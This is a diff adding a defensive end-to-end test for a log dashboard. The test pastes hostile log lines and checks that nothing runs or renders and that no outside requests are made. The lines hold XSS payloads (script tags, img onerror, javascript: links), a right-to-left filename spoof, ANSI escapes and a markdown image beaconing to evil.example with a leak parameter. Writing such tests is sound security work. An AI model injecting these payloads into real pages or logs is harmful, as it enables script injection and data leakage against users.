@@ -16,7 +16,12 @@ beforeAll(async () => {
   page.setDefaultTimeout(30_000)
   page.on('pageerror', (error) => troubles.push(error.message))
   page.on('console', (message) => {
-    if (/content security policy/i.test(message.text())) troubles.push(message.text())
+    const text = message.text()
+    if (message.type() === 'error' && !text.startsWith('Failed to load resource')) troubles.push(text)
+    else if (/content security policy/i.test(text)) troubles.push(text)
+  })
+  page.on('request', (request) => {
+    if (/^https?:/.test(request.url()) && !request.url().startsWith(product.url)) troubles.push(request.url())
   })
 })
 
@@ -113,6 +118,40 @@ describe('the dashboard on the real product', { retry: 0 }, () => {
     await page.getByRole('link', { name: 'Open incident 1' }).click()
     await page.getByRole('tab', { name: 'Evidence & Logs' }).click()
     await seeText(page, /Connection refused/)
+  })
+
+  it('shows a hostile log as what it is, with the policy in force', async () => {
+    const response = await go('/dashboard/logs?view=forward')
+    expect(response?.headers()['content-security-policy']).toContain("script-src 'self'")
+    const script = '<script>window.pwned = true</script><img src=x onerror="window.pwned = true">'
+    const poison = `${script} \u001b[31mred\u001b[0m user\u202egnp.exe ![x](https://evil.example/?leak=1) [go](javascript:window.pwned=true)`
+    const startMs = Date.now() - 60_000
+    const at = (index: number) => new Date(startMs + index * 900).toISOString()
+    const lines = Array.from(
+      { length: 60 },
+      (_, index) => `${at(index)} ERROR [poison] could not connect to vault:8200: Connection refused ${poison}`,
+    )
+    lines.push(`${at(60)} ERROR [poison] could not connect to vault:8200: Connection refused ${'x'.repeat(1_000_000)}`)
+    await page.getByLabel('Or paste log lines').fill(lines.join('\n'))
+    await page.getByRole('button', { name: 'Process Logs' }).click()
+    await page.getByRole('link', { name: 'Open incident 1' }).click()
+    await page.getByRole('tab', { name: 'Evidence & Logs' }).click()
+    await seeText(page.getByRole('region', { name: 'Evidence lines' }), /<script>/)
+    await page.getByRole('button', { name: 'Generate runbook' }).click()
+    await page.getByRole('region', { name: 'Assistant' }).getByText('engine').waitFor()
+    for (const tab of await page.getByRole('tab').all()) {
+      await tab.click()
+      expect(await page.locator('body').innerText()).not.toMatch(/[\u001b\u202e\u200b]/)
+      expect(
+        await page.locator('main img, main script, main a[href^="javascript"], main a[href*="evil"]').count(),
+      ).toBe(0)
+    }
+    await page.getByRole('tab', { name: 'Evidence & Logs' }).click()
+    await page.getByRole('button', { name: 'Show neighbours' }).first().click()
+    await page.getByRole('dialog').locator('[aria-current="location"]').waitFor()
+    await page.keyboard.press('Escape')
+    expect(await page.evaluate(() => 'pwned' in window)).toBe(false)
+    expect(troubles).toEqual([])
   })
 
   it('streams a file of several megabytes', async () => {
